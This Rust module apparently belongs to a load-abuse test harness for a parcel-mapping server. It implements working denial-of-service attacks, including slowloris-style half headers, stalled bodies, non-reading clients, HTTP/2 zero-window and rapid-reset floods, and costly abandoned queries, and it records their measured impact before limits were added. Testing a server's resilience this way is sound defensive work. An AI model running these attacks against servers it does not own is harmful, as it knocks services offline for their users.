//! The attacks, each as a function that returns what it holds open.

use std::{
    collections::BTreeMap,
    f64::consts::TAU,
    io::{ErrorKind, Read, Write},
    net::{SocketAddr, TcpStream},
    thread,
    time::{Duration, Instant},
};

use crate::http2;

/// The server that is attacked, and its city.
pub(crate) struct Target {
    pub(crate) url: String,
    /// A corner of a parcel, in degrees.
    pub(crate) place: [f64; 2],
    /// West, south, east, north of the parcels.
    pub(crate) extent: [f64; 4],
    /// Revisions whose parcels share nothing with those of today.
    pub(crate) former: Vec<u64>,
}

/// How often each answer came.
pub(crate) type Answers = BTreeMap<String, usize>;

/// One kind of abuse.
pub(crate) struct Attack {
    pub(crate) name: &'static str,
    /// What it did before there were bounds: the review of 22 November, another machine and a release build.
    pub(crate) before: &'static str,
    pub(crate) hold: Duration,
    pub(crate) run: fn(&Target, &mut Answers) -> Vec<TcpStream>,
}

const LONG: Duration = Duration::from_secs(4);
const SHORT: Duration = Duration::from_millis(700);

/// All attacks, in their order.
pub(crate) fn all() -> Vec<Attack> {
    let attack = |name, before, hold, run| Attack { name, before, hold, run };
    vec![
        attack("none", "–", LONG, |_, _| Vec::new()),
        attack("4 096 silent sockets", "nobody was answered", LONG, silent),
        attack("4 096 half heads", "nobody was answered for 20 s", LONG, half_heads),
        attack("300 bodies of 2 MB that stop", "+742 MB for 30 s", LONG, stalled_bodies),
        attack("100 clients that read nothing", "+571 MB, held for ever", LONG, slow_readers),
        attack("HTTP/2 with a window of 0, 250 streams", "+1 010 MB, held", LONG, window_zero),
        attack("HTTP/2, 5 000 streams opened and reset", "closed after 420", LONG, rapid_reset),
        attack("1 000 event streams", "all places taken, +19 MB", LONG, event_streams),
        attack("26 former states at once", "+1 382 MB; searches waited 6.6 s", SHORT, former_states),
        attack("12 frames over the city, hung up", "1 000 ms for others", SHORT, frames),
        attack("star of 10 000 corners, three times, hung up", "352 s of work, 503 for others", SHORT, stars),
        attack("a layer named 1 000 times, hung up", "+1 589 MB, 32 s of work", SHORT, repeated_layer),
        attack("40 tiles of the whole city at past times, hung up", "not measured", SHORT, cold_tiles),
    ]
}

fn add(answers: &mut Answers, what: impl Into<String>) {
    *answers.entry(what.into()).or_default() += 1;
}

fn connect(target: &Target) -> Option<TcpStream> {
    let address: SocketAddr = target.url.trim_start_matches("http://").parse().unwrap();
    let stream = TcpStream::connect_timeout(&address, Duration::from_secs(5)).ok()?;
    stream.set_read_timeout(Some(Duration::from_secs(20))).unwrap();
    stream.set_write_timeout(Some(Duration::from_secs(5))).unwrap();
    Some(stream)
}

/// A connection on which `bytes` were sent, as far as the server took them.
fn send(target: &Target, bytes: &[u8]) -> Option<TcpStream> {
    let mut stream = connect(target)?;
    // A connection beyond the share is closed already.
    let _ = stream.write_all(bytes);
    Some(stream)
}

/// Counts which of these connections the server has closed by now.
fn count_closed(streams: &mut [TcpStream], answers: &mut Answers) {
    for stream in streams {
        stream.set_nonblocking(true).unwrap();
        match stream.read(&mut [0; 1]) {
            Err(error) if error.kind() == ErrorKind::WouldBlock => add(answers, "open"),
            _ => add(answers, "closed at once"),
        }
    }
}

/// Reads the status line of each answer.
fn count_statuses(streams: &mut [TcpStream], answers: &mut Answers) {
    for stream in streams {
        let mut status = [0; 12];
        match stream.read_exact(&mut status) {
            Ok(()) => add(answers, String::from_utf8_lossy(&status[9..])),
            Err(_) => add(answers, "closed"),
        }
    }
}

fn many(count: usize, target: &Target, bytes: &[u8]) -> Vec<TcpStream> {
    (0..count).filter_map(|_| send(target, bytes)).collect()
}

fn silent(target: &Target, answers: &mut Answers) -> Vec<TcpStream> {
    let mut streams = many(4_096, target, b"");
    thread::sleep(SHORT);
    count_closed(&mut streams, answers);
    streams
}

fn half_heads(target: &Target, answers: &mut Answers) -> Vec<TcpStream> {
    let mut streams = many(4_096, target, b"GET / HTTP/1.1\r\nX");
    thread::sleep(SHORT);
    count_closed(&mut streams, answers);
    streams
}

fn stalled_bodies(target: &Target, answers: &mut Answers) -> Vec<TcpStream> {
    let length = 2_000_000;
    let head = format!("POST /api/within HTTP/1.1\r\nhost: x\r\ncontent-length: {length}\r\n\r\n");
    let bytes = [head.into_bytes(), vec![b' '; length - 1]].concat();
    let mut streams = many(300, target, &bytes);
    thread::sleep(SHORT);
    for stream in &mut streams {
        stream.set_read_timeout(Some(Duration::from_millis(1))).unwrap();
        let mut status = [0; 12];
        match stream.read_exact(&mut status) {
            Ok(()) => add(answers, String::from_utf8_lossy(&status[9..])),
            Err(error) if [ErrorKind::WouldBlock, ErrorKind::TimedOut].contains(&error.kind()) => {
                add(answers, "waits for the rest");
            }
            Err(_) => add(answers, "refused and closed"),
        }
    }
    streams
}

fn slow_readers(target: &Target, answers: &mut Answers) -> Vec<TcpStream> {
    let ask = b"GET /api/collections/parcels/items?limit=10000 HTTP/1.1\r\nhost: x\r\n\r\n";
    let mut streams = many(100, target, ask);
    count_statuses(&mut streams, answers);
    streams
}

fn window_zero(target: &Target, answers: &mut Answers) -> Vec<TcpStream> {
    let mut bytes = http2::opening();
    for number in 0..250 {
        bytes.extend(http2::get(2 * number + 1, "/api/collections/parcels/items?limit=10000"));
    }
    let Some(mut stream) = send(target, &bytes) else { return Vec::new() };
    http2::answers(&mut stream, Duration::from_secs(6), answers);
    vec![stream]
}

fn rapid_reset(target: &Target, answers: &mut Answers) -> Vec<TcpStream> {
    let mut bytes = http2::opening();
    for number in 0..5_000 {
        bytes.extend(http2::get(2 * number + 1, "/api/collections/parcels/items?limit=10000"));
        bytes.extend(http2::frame(3, 0, 2 * number + 1, &8u32.to_be_bytes()));
    }
    let Some(mut stream) = send(target, &bytes) else { return Vec::new() };
    http2::answers(&mut stream, Duration::from_secs(1), answers);
    vec![stream]
}

fn event_streams(target: &Target, answers: &mut Answers) -> Vec<TcpStream> {
    let mut streams = many(1_000, target, b"GET /api/events HTTP/1.1\r\nhost: x\r\n\r\n");
    count_statuses(&mut streams, answers);
    streams
}

fn former_states(target: &Target, answers: &mut Answers) -> Vec<TcpStream> {
    let ask = |revision: &u64| {
        let path = format!("/api/collections/parcels/items?limit=1&revision={revision}");
        send(target, format!("GET {path} HTTP/1.1\r\nhost: x\r\n\r\n").as_bytes())
    };
    let mut streams: Vec<TcpStream> = target.former.iter().filter_map(ask).collect();
    count_statuses(&mut streams, answers);
    streams
}

fn frames(target: &Target, answers: &mut Answers) -> Vec<TcpStream> {
    let ask = b"GET /api/overlay?layer=frame&id=FRAME&with=parcels&limit=1 HTTP/1.1\r\nhost: x\r\n\r\n";
    hung_up(many(12, target, ask), answers)
}

fn stars(target: &Target, answers: &mut Answers) -> Vec<TcpStream> {
    let [west, south, east, north] = target.extent;
    let middle = [(west + east) / 2.0, (south + north) / 2.0];
    let point = |corner: usize| {
        let angle = corner as f64 / 9_998.0 * TAU;
        let reach = if corner.is_multiple_of(2) { 0.015 } else { 0.001 };
        [middle[0] + reach * angle.cos(), middle[1] + reach * angle.sin()]
    };
    let ring: Vec<[f64; 2]> = (0..9_998).chain([0]).map(point).collect();
    let area = serde_json::json!({"type": "Polygon", "coordinates": [ring]}).to_string();
    let head = format!("POST /api/within HTTP/1.1\r\nhost: x\r\ncontent-length: {}\r\n\r\n", area.len());
    hung_up(many(3, target, format!("{head}{area}").as_bytes()), answers)
}

fn repeated_layer(target: &Target, answers: &mut Answers) -> Vec<TcpStream> {
    let with = vec!["parcels"; 1_000].join(",");
    let path = format!("/api/overlay?layer=frame&id=FRAME&with={with}&limit=10000");
    hung_up(many(1, target, format!("GET {path} HTTP/1.1\r\nhost: x\r\n\r\n").as_bytes()), answers)
}

fn cold_tiles(target: &Target, answers: &mut Answers) -> Vec<TcpStream> {
    // Each time is another tile, and nothing of it is prepared.
    let ask = |day: usize| {
        let path = format!("/tiles/parcels/9/407/240?datetime=20{:02}-0{}-15", 10 + day / 9, 1 + day % 9);
        send(target, format!("GET {path} HTTP/1.1\r\nhost: x\r\n\r\n").as_bytes())
    };
    hung_up((0..40).filter_map(ask).collect(), answers)
}

/// Connections whose client leaves soon: what was answered by then.
fn hung_up(mut streams: Vec<TcpStream>, answers: &mut Answers) -> Vec<TcpStream> {
    let end = Instant::now() + SHORT;
    for stream in &mut streams {
        let left = end.saturating_duration_since(Instant::now()).max(Duration::from_millis(1));
        stream.set_read_timeout(Some(left)).unwrap();
        let mut status = [0; 12];
        match stream.read_exact(&mut status) {
            Ok(()) => add(answers, String::from_utf8_lossy(&status[9..])),
            Err(_) => add(answers, "not answered yet"),
        }
    }
    streams
}
